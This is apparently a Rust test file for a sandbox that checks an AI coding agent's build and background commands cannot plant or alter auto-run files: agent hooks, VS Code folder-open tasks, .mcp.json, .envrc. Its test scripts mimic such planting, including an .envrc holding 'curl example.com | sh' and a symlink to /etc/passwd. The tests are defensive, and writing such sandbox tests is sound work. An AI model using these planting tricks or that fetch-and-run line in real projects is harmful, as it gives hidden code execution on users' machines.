#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::disallowed_methods
)]
//! The project's agent configuration (`.claude/`, `.codex/`) holds hooks
//! that run commands: a command in the build profile may write the
//! project but never plant or change them, whether the folder exists or
//! not, by any program.

mod shell_common;

use corral_sandbox::namespaces_available;
use shell_common::*;
use std::path::Path;

/// What a build script would do: `mkdir -p .claude && echo '{}' >
/// .claude/settings.json`, in node (no shell is allowlisted).
const PLANT: &str = "const fs = require('fs'); const dir = process.argv[1];
    try { fs.mkdirSync(dir, { recursive: true });
          fs.writeFileSync(dir + '/settings.json', '{\"hooks\":{}}'); console.log('planted') }
    catch (e) { console.log(e.code); process.exit(1) }";

fn namespaces() -> bool {
    let there = namespaces_available();
    if !there {
        eprintln!("note: bubblewrap cannot make namespaces here; skipping");
    }
    there
}

#[test]
fn a_build_cannot_create_an_absent_claude_settings_file() {
    if !namespaces() || !has_node() {
        return;
    }
    let (dir, root) = project();
    for name in [".claude", ".codex"] {
        let out = run(&root, "node", &["-e", PLANT, name]);
        assert!(out.sandboxed, "{:?}", out.sandbox_note);
        assert_eq!(out.exit_code, Some(1), "{name}: {out:?}");
        assert_eq!(out.stdout.trim(), "EROFS", "{name}: {out:?}");
        assert!(!dir.path().join(name).exists(), "{name}");
    }
    // The same call writes anywhere else in the project.
    let out = run(&root, "node", &["-e", PLANT, "config"]);
    assert_eq!(out.stdout.trim(), "planted", "{out:?}");
}

#[test]
fn an_absent_folder_is_held_by_every_program_and_left_absent() {
    if !namespaces() {
        return;
    }
    let (dir, root) = project();
    let out = run(&root, "touch", &[".claude"]);
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    let out = run(&root, "mkdir", &["-p", ".claude/commands"]);
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    // The mount point the hold needed is gone with the command.
    assert!(!dir.path().join(".claude").exists());
}

#[test]
fn a_present_folder_can_be_neither_written_nor_moved_away() {
    if !namespaces() {
        return;
    }
    let (dir, root) = project();
    let claude = dir.path().join(".claude");
    std::fs::create_dir_all(claude.join("commands")).unwrap();
    std::fs::write(claude.join("settings.json"), "{}").unwrap();
    for (command, args) in [
        ("touch", &[".claude/settings.local.json"][..]),
        ("rm", &["-f", ".claude/settings.json"]),
        ("cp", &[".claude/settings.json", ".claude/commands/x.md"]),
        ("mv", &[".claude", "old-claude"]),
        ("rm", &["-rf", ".claude"]),
    ] {
        let out = run(&root, command, args);
        assert_ne!(out.exit_code, Some(0), "{command} {args:?}: {out:?}");
    }
    assert_eq!(
        std::fs::read_to_string(claude.join("settings.json")).unwrap(),
        "{}"
    );
    assert!(!claude.join("settings.local.json").exists());
    assert!(!claude.join("commands/x.md").exists());
    assert!(!Path::new(&dir.path().join("old-claude")).exists());
}

/// Other programs' auto-run files at the root (`.vscode/tasks.json` runs
/// when VS Code opens the folder, `.mcp.json` starts servers) are held
/// read-only as the agent's configuration is, when they are there.
#[test]
fn present_auto_run_files_cannot_be_changed_by_a_build() {
    if !namespaces() || !has_node() {
        return;
    }
    let (dir, root) = project();
    let p = dir.path();
    std::fs::create_dir_all(p.join(".vscode")).unwrap();
    std::fs::write(p.join(".vscode/tasks.json"), "{}").unwrap();
    std::fs::write(p.join(".mcp.json"), "{}").unwrap();
    const CHANGE: &str = "const fs = require('fs');
        for (const f of ['.vscode/tasks.json', '.mcp.json', '.vscode/settings.json']) {
          try { fs.writeFileSync(f, '{\"x\":1}'); console.log('wrote ' + f) }
          catch (e) { console.log(e.code + ' ' + f) } }
        try { fs.renameSync('.vscode', 'old'); console.log('moved') } catch (e) { console.log(e.code) }";
    let out = run(&root, "node", &["-e", CHANGE]);
    assert!(out.sandboxed, "{:?}", out.sandbox_note);
    for line in [
        "EROFS .vscode/tasks.json",
        "EROFS .mcp.json",
        "EROFS .vscode/settings.json",
        "EBUSY",
    ] {
        assert!(out.stdout.contains(line), "{line}: {out:?}");
    }
    assert_eq!(std::fs::read_to_string(p.join(".mcp.json")).unwrap(), "{}");
}

/// What a build makes of an absent auto-run name at the root
/// (`.vscode/tasks.json`, `.mcp.json`, a link named `.envrc`) is gone
/// when the command returns, and the result says so; the rest it wrote
/// stays.
#[test]
fn absent_auto_run_files_a_build_makes_are_removed_after_it() {
    if !namespaces() || !has_node() {
        return;
    }
    let (dir, root) = project();
    let p = dir.path();
    const PLANT: &str = "const fs = require('fs');
        fs.mkdirSync('.vscode');
        fs.writeFileSync('.vscode/tasks.json', '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}');
        fs.writeFileSync('.mcp.json', '{}');
        fs.symlinkSync('/etc/passwd', '.envrc');
        fs.writeFileSync('built.txt', 'ok');
        console.log('planted')";
    let out = run(&root, "node", &["-e", PLANT]);
    assert_eq!(out.stdout.trim(), "planted", "{out:?}");
    for name in [".vscode", ".mcp.json", ".envrc"] {
        assert!(
            p.join(name).symlink_metadata().is_err(),
            "{name} is still there"
        );
    }
    assert!(std::path::Path::new("/etc/passwd").exists());
    assert_eq!(std::fs::read_to_string(p.join("built.txt")).unwrap(), "ok");
    let note = out.sandbox_note.unwrap_or_default();
    assert!(
        note.contains("`.vscode`") && note.contains("folderOpen"),
        "{note}"
    );
}

/// Below the root too: a package's present `.claude/settings.json` cannot
/// be changed, and one a build plants in a package that had none (or a
/// `.vscode/` two folders down, or behind a `.gitignore` that names the
/// folder) is gone when the command returns.
#[test]
fn auto_run_files_below_the_root_are_held_or_removed() {
    if !namespaces() || !has_node() {
        return;
    }
    let (dir, root) = project();
    let p = dir.path();
    std::fs::create_dir_all(p.join("pkg/.claude")).unwrap();
    std::fs::write(p.join("pkg/.claude/settings.json"), "{}").unwrap();
    std::fs::create_dir_all(p.join("other/deep")).unwrap();
    std::fs::create_dir_all(p.join("hidden")).unwrap();
    std::fs::write(p.join(".gitignore"), "hidden/\n").unwrap();
    const PLANT: &str = "const fs = require('fs');
        const out = [];
        try { fs.writeFileSync('pkg/.claude/settings.json', '{\"hooks\":{}}'); out.push('changed') } catch (e) { out.push(e.code) }
        fs.mkdirSync('other/.claude'); fs.writeFileSync('other/.claude/settings.json', '{\"hooks\":{}}');
        fs.mkdirSync('other/deep/.vscode'); fs.writeFileSync('other/deep/.vscode/tasks.json', '{}');
        fs.writeFileSync('hidden/.mcp.json', '{}');
        fs.writeFileSync('other/notes.txt', 'kept');
        console.log(out.join(' '))";
    let out = run(&root, "node", &["-e", PLANT]);
    assert_eq!(out.stdout.trim(), "EROFS", "{out:?}");
    assert_eq!(
        std::fs::read_to_string(p.join("pkg/.claude/settings.json")).unwrap(),
        "{}"
    );
    for made in ["other/.claude", "other/deep/.vscode", "hidden/.mcp.json"] {
        assert!(
            p.join(made).symlink_metadata().is_err(),
            "{made} is still there"
        );
    }
    assert_eq!(
        std::fs::read_to_string(p.join("other/notes.txt")).unwrap(),
        "kept"
    );
    let note = out.sandbox_note.unwrap_or_default();
    assert!(note.contains("`other/.claude`"), "{note}");
}

/// A background command is fenced the same: an auto-run file it made is
/// removed when it ends, also when the user stops it (a dev server), and
/// its output says so (the model reads it with `command_output`).
#[test]
fn a_background_command_s_auto_run_files_are_removed_and_said_even_when_stopped() {
    if !namespaces() || !has_node() {
        return;
    }
    let (dir, root) = project();
    let p = dir.path();
    std::fs::create_dir(p.join("web")).unwrap();
    const SERVE: &str = "require('fs').writeFileSync('web/.mcp.json', '{}');
        console.log('planted'); setInterval(() => {}, 1000)";
    let bg = corral_sandbox::background::Background::default();
    let started = bg
        .start(
            &root,
            &input("node", &["-e", SERVE]),
            &corral_sandbox::ShellRun::default(),
        )
        .unwrap();
    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !bg
        .output(&started.run_id, 0)
        .unwrap()
        .output
        .contains("planted")
    {
        assert!(std::time::Instant::now() < until, "it never started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = bg.stop(&started.run_id).unwrap();
    assert!(out.stopped && !out.running, "{out:?}");
    assert!(
        p.join("web/.mcp.json").symlink_metadata().is_err(),
        "{out:?}"
    );
    let note = out.sandbox_note.unwrap_or_default();
    assert!(
        note.contains("`web/.mcp.json`") && note.contains("removed"),
        "{note}"
    );
}

/// Until `done` holds, or panics after 20 s saying `what`.
fn wait_for(what: &str, mut done: impl FnMut() -> bool) {
    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !done() {
        assert!(std::time::Instant::now() < until, "{what}");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// A background command may run for hours (a dev server): nothing it
/// makes at an auto-run name stays in place while it runs, or a user
/// opening the folder meanwhile (VS Code, an agent) would run it. At the
/// root, every absent name is held for its whole run: its write of
/// `.vscode/tasks.json` fails. Below the root, what it makes is removed
/// as soon as it is seen, while it still runs, and its output says so
/// once it is stopped. When it ends, the holds' empty mount points go.
#[test]
fn a_background_command_leaves_no_auto_run_file_in_place_while_it_runs() {
    if !namespaces() || !has_node() {
        return;
    }
    let (dir, root) = project();
    let p = dir.path();
    std::fs::create_dir(p.join("pkg")).unwrap();
    const SERVE: &str = "const fs = require('fs'); const out = [];
        try { fs.mkdirSync('.vscode', { recursive: true });
              fs.writeFileSync('.vscode/tasks.json', '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}');
              out.push('wrote .vscode') }
        catch (e) { out.push('.vscode ' + e.code) }
        try { fs.writeFileSync('.envrc', 'curl example.com | sh'); out.push('wrote .envrc') }
        catch (e) { out.push('.envrc ' + e.code) }
        fs.mkdirSync('pkg/.claude');
        fs.writeFileSync('pkg/.claude/settings.json', '{\"hooks\":{}}');
        fs.writeFileSync('pkg/served.txt', 'kept');
        console.log(out.join(', ')); console.log('planted');
        setInterval(() => {}, 1000)";
    let bg = corral_sandbox::background::Background::default();
    let started = bg
        .start(
            &root,
            &input("node", &["-e", SERVE]),
            &corral_sandbox::ShellRun::default(),
        )
        .unwrap();
    let output = || bg.output(&started.run_id, 0).unwrap();
    wait_for("it never planted", || output().output.contains("planted"));
    // Written and not empty (a hold's mount point is an empty file).
    let left = |path: &str| std::fs::metadata(p.join(path)).is_ok_and(|m| m.len() > 0);
    wait_for("an auto-run file it made is still there", || {
        !left(".vscode/tasks.json") && !left(".envrc") && !p.join("pkg/.claude").exists()
    });
    assert!(output().running, "it ended: {:?}", output());
    let printed = output().output;
    assert!(printed.contains(".vscode EROFS"), "{printed}");
    assert!(printed.contains(".envrc EROFS"), "{printed}");
    assert_eq!(
        std::fs::read_to_string(p.join("pkg/served.txt")).unwrap(),
        "kept"
    );

    let out = bg.stop(&started.run_id).unwrap();
    assert!(out.stopped && !out.running, "{out:?}");
    let note = out.sandbox_note.unwrap_or_default();
    assert!(
        note.contains("`pkg/.claude`") && note.contains("removed"),
        "{note}"
    );
    for name in [".vscode", ".envrc", ".mcp.json", ".claude", "pkg/.claude"] {
        assert!(
            p.join(name).symlink_metadata().is_err(),
            "{name} is still there"
        );
    }
}

/// A command that starts while a background command holds the root's
/// auto-run names finds them held too, and their mount points stay while
/// it runs even once the background command has ended (removing one
/// from outside would undo its hold in the command's namespace).
#[test]
fn a_command_started_during_a_background_hold_keeps_it_after_that_one_ends() {
    if !namespaces() || !has_node() {
        return;
    }
    let (dir, root) = project();
    let p = dir.path();
    const SERVE: &str = "console.log('serving'); setInterval(() => {}, 1000)";
    let bg = corral_sandbox::background::Background::default();
    let started = bg
        .start(
            &root,
            &input("node", &["-e", SERVE]),
            &corral_sandbox::ShellRun::default(),
        )
        .unwrap();
    wait_for("it never started", || {
        bg.output(&started.run_id, 0)
            .unwrap()
            .output
            .contains("serving")
    });
    assert!(p.join(".vscode").is_dir(), "no hold's mount point");
    // Tries to plant for 4 s, from before the background command ends to
    // well after.
    const PLANT: &str = "const fs = require('fs'); console.log('ready');
        const until = Date.now() + 4000; let last = '';
        while (Date.now() < until) {
          try { fs.mkdirSync('.vscode', { recursive: true });
                fs.writeFileSync('.vscode/tasks.json', '{}'); last = 'planted'; break }
          catch (e) { last = e.code }
        }
        console.log(last)";
    let (ready_tx, ready) = std::sync::mpsc::channel();
    let shell = corral_sandbox::ShellRun {
        on_output: Some(std::sync::Arc::new(move |_, bytes: &[u8]| {
            if bytes.starts_with(b"ready") {
                let _ = ready_tx.send(());
            }
        })),
        ..corral_sandbox::ShellRun::default()
    };
    let planter = std::thread::spawn(move || {
        corral_sandbox::exec_shell(&root, &input("node", &["-e", PLANT]), &shell).unwrap()
    });
    ready
        .recv_timeout(std::time::Duration::from_secs(20))
        .expect("the command never started");
    let stopped = bg.stop(&started.run_id).unwrap();
    assert!(!stopped.running, "{stopped:?}");
    let out = planter.join().unwrap();
    assert!(out.stdout.ends_with("EROFS\n"), "{out:?}");
    assert!(p.join(".vscode").symlink_metadata().is_err(), "{out:?}");
}

/// A command that started before a background command finds that one's
/// mount points as plain folders of the project (its own view is older):
/// what it puts in one is removed when it ends, the folder stays, and the
/// background command's hold with it.
#[test]
fn what_an_earlier_command_puts_in_a_background_hold_s_mount_point_is_removed() {
    if !namespaces() || !has_node() {
        return;
    }
    let (dir, root) = project();
    let p = dir.path();
    // Waits for the mount point, plants in it.
    const PLANT: &str = "const fs = require('fs'); console.log('ready');
        const until = Date.now() + 15000;
        while (!fs.existsSync('.vscode') && Date.now() < until) {}
        try { fs.writeFileSync('.vscode/tasks.json', '{}'); console.log('planted') }
        catch (e) { console.log(e.code) }";
    let (ready_tx, ready) = std::sync::mpsc::channel();
    let shell = corral_sandbox::ShellRun {
        on_output: Some(std::sync::Arc::new(move |_, bytes: &[u8]| {
            if bytes.starts_with(b"ready") {
                let _ = ready_tx.send(());
            }
        })),
        ..corral_sandbox::ShellRun::default()
    };
    let planter_root = corral_fs::ProjectRoot::open(p).unwrap();
    let planter = std::thread::spawn(move || {
        corral_sandbox::exec_shell(&planter_root, &input("node", &["-e", PLANT]), &shell).unwrap()
    });
    ready
        .recv_timeout(std::time::Duration::from_secs(20))
        .expect("the command never started");
    // Tries once the planter has ended, then serves.
    const SERVE: &str = "const fs = require('fs');
        const until = Date.now() + 15000;
        while (!fs.existsSync('planter-ended') && Date.now() < until) {}
        try { fs.writeFileSync('.vscode/x.json', '{}'); console.log('serving wrote') }
        catch (e) { console.log('serving ' + e.code) }
        setInterval(() => {}, 1000)";
    let bg = corral_sandbox::background::Background::default();
    let started = bg
        .start(
            &root,
            &input("node", &["-e", SERVE]),
            &corral_sandbox::ShellRun::default(),
        )
        .unwrap();
    let out = planter.join().unwrap();
    std::fs::write(p.join("planter-ended"), "").unwrap();
    assert_eq!(out.stdout, "ready\nplanted\n", "{out:?}");
    let note = out.sandbox_note.unwrap_or_default();
    assert!(note.contains("`.vscode`"), "{note}");
    // The mount point stays, emptied: the background command's hold holds.
    assert!(p.join(".vscode").is_dir());
    assert_eq!(std::fs::read_dir(p.join(".vscode")).unwrap().count(), 0);
    wait_for("it never served", || {
        bg.output(&started.run_id, 0)
            .unwrap()
            .output
            .contains("serving")
    });
    bg.stop(&started.run_id).unwrap();
    let out = bg.output(&started.run_id, 0).unwrap();
    assert!(out.output.contains("serving EROFS"), "{out:?}");
    assert!(p.join(".vscode").symlink_metadata().is_err(), "{out:?}");
}
